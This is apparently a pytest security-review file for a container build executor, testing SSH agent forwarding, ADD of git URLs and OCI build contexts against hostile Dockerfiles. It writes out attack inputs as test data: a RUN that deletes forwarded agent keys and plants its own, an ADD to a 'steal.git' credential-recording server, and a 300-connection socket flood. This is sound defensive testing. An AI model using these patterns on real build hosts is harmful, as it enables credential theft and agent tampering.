"""Review of --ssh, ADD <git URL> and --build-context: what a hostile Dockerfile could do with
them, each case built with the executor against real servers on loopback."""

from __future__ import annotations

import base64
import json
import os
import socket
import struct
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from executor.sandbox.ssh_agent import MAX_MESSAGE, KeyAgent, load_keys
from executor.sandbox.ssh_forward import SocketService
from tests.commands.support import build, pushed
from tests.hostile.conftest import entry, tar_of
from tests.support.images import write_oci_layout
from tests.support.registry import RunningRegistry
from tests.support.sshd import keygen, start_agent


def _listed(agent_socket: Path) -> str:
    result = subprocess.run(["ssh-add", "-l"], env={**os.environ, "SSH_AUTH_SOCK": str(agent_socket)},
                            capture_output=True, text=True)
    return result.stdout


@pytest.mark.slow
def test_a_run_cannot_change_the_forwarded_agent(tmp_path: Path, registry: RunningRegistry,
                                                 git_ssh_image: str) -> None:
    """--ssh default relays to the caller's own agent: a RUN may list and sign (BuildKit's
    readOnlyAgent), never remove the caller's keys, add its own or lock the agent."""
    key = keygen(tmp_path / "id_ed25519")
    agent = start_agent(tmp_path / "agent", key)
    try:
        assert "lamina-test-ed25519" in _listed(agent.socket)
        dockerfile = f"""\
FROM {git_ssh_image}
RUN --mount=type=ssh ssh-add -l && (ssh-add -D; ssh-keygen -q -t ed25519 -N '' -C planted -f /tmp/k \\
    && ssh-add /tmp/k; true)
"""
        run, _ = build(tmp_path, registry, dockerfile, "--ssh", "default", "--no-push",
                       env={"SSH_AUTH_SOCK": str(agent.socket)})
        assert run.returncode == 0, run.stderr
        listed = _listed(agent.socket)
        assert "lamina-test-ed25519" in listed and "planted" not in listed, listed
    finally:
        agent.stop()


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.seen.append(self.headers.get("Authorization", ""))
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[tuple[str, list[str]]]:
    """An http server the Dockerfile names (the attacker's): the Authorization headers it got."""
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def test_add_git_sends_no_executor_credentials_to_a_host_the_dockerfile_names(
        tmp_path: Path, registry: RunningRegistry, busybox_image: str, recorder: tuple[str, list[str]]) -> None:
    # GIT_TOKEN/GIT_USERNAME/GIT_PASSWORD are the git build context's; the Dockerfile picks an
    # ADD's server, so they must never reach it
    host, seen = recorder
    token = "executor-token-5f0c2e"
    run, _ = build(tmp_path, registry, f"FROM {busybox_image}\nADD http://{host}/steal.git /x/\n", "--no-push",
                   env={"GIT_TOKEN": token, "GIT_USERNAME": "ci", "GIT_PASSWORD": token})
    assert seen, run.stderr  # git asked the attacker's server
    leaked = [header for header in seen if header and token in base64.b64decode(header.split()[-1]).decode()]
    assert not leaked


@pytest.mark.parametrize("config", [b"not json at all", b"[1, 2]", b'{"rootfs": {"diff_ids": []}}'])
def test_an_oci_layout_whose_config_blob_is_not_its_digest_is_one_line(
        tmp_path: Path, registry: RunningRegistry, config: bytes) -> None:
    """The config blob of an --build-context oci-layout:// is checked against its digest as the
    manifest is: other bytes are named, never parsed into a traceback or a different image."""
    layout = tmp_path / "layout"
    write_oci_layout(layout, "v1", [tar_of((entry("hello.txt"), b"hello\n"))], {})
    index = json.loads((layout / "index.json").read_text())
    manifest_digest = index["manifests"][0]["digest"].split(":")[1]
    manifest = json.loads((layout / "blobs/sha256" / manifest_digest).read_bytes())
    (layout / "blobs/sha256" / manifest["config"]["digest"].split(":")[1]).write_bytes(config)
    run, destination = build(tmp_path, registry, "FROM layout\nRUN true\n",
                             "--build-context", f"layout=oci-layout://{layout}:v1")
    assert run.returncode != 0
    assert len(run.error_lines) == 1 and "Traceback" not in run.stderr, run.stderr
    assert "holds other bytes" in run.error_lines[0], run.error_lines[0]
    assert not pushed(registry, destination)


def test_connections_a_run_holds_open_do_not_grow_the_executor(tmp_path: Path) -> None:
    """Each connection to the agent socket is a thread of the executor's, holding up to a whole
    message: a RUN opening hundreds (each sending half a message, then nothing) gets a few."""
    key = keygen(tmp_path / "id_ed25519")
    service = SocketService(KeyAgent(load_keys("default", [key])).serve, name="review-agent")
    path = tmp_path / "agent.sock"
    service.listen(str(path), mode=0o600, uid=os.getuid(), gid=os.getgid())
    before = threading.active_count()
    clients = []
    try:
        for _ in range(300):
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            clients.append(client)
            try:
                client.connect(str(path))
                client.sendall(struct.pack(">I", MAX_MESSAGE) + b"\x0d" * 1024)
            except OSError:
                pass  # one over the limit, closed by the executor
        time.sleep(1)
        assert threading.active_count() - before <= 64 + 1  # the accepting thread
        # and the agent still answers once they are gone
        for client in clients:
            client.close()
        clients.clear()
        time.sleep(0.5)
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.connect(str(path))
            client.sendall(struct.pack(">IB", 1, 11))
            assert client.recv(5)[4] == 12  # IDENTITIES_ANSWER
    finally:
        for client in clients:
            client.close()
        service.close()
